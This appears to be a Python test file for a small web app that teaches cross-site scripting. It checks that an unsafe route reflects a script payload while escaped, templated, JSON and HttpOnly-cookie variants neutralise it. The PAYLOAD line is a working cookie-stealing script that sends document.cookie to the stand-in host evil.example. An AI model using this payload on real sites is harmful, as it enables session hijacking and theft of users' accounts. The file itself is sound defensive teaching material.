from sec_xss import app

client = app.test_client()
PAYLOAD = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"


def test_the_hand_built_page_runs_the_attackers_script():
    response = client.get("/hello-unsafe", query_string={"name": PAYLOAD})
    assert response.mimetype == "text/html"  # the browser parses it as HTML
    assert "<h1>Hello <script>fetch(" in response.text  # live script: XSS


def test_the_template_and_escape_neutralize_it():
    for url in ("/hello", "/hello-inline"):
        response = client.get(url, query_string={"name": PAYLOAD})
        assert "<script>" not in response.text
        assert "&lt;script&gt;fetch(&#39;https://evil.example" in response.text


def test_legitimate_names_still_display():
    for url in ("/hello", "/hello-inline", "/hello-unsafe"):
        assert "<h1>Hello Zoë</h1>" in client.get(url, query_string={"name": "Zoë"}).text
    tom = client.get("/hello", query_string={"name": "Tom & Jerry"}).text
    assert "Tom &amp; Jerry" in tom  # shown as "Tom & Jerry" by the browser


def test_json_is_not_parsed_as_html():
    response = client.get("/api/hello", query_string={"name": PAYLOAD})
    assert response.mimetype == "application/json"
    assert response.json["greeting"] == f"Hello {PAYLOAD}"  # data, escaped where it is shown


def test_the_session_cookie_is_httponly_by_default():
    cookie = client.post("/login").headers["Set-Cookie"]
    assert "HttpOnly" in cookie  # document.cookie cannot read it
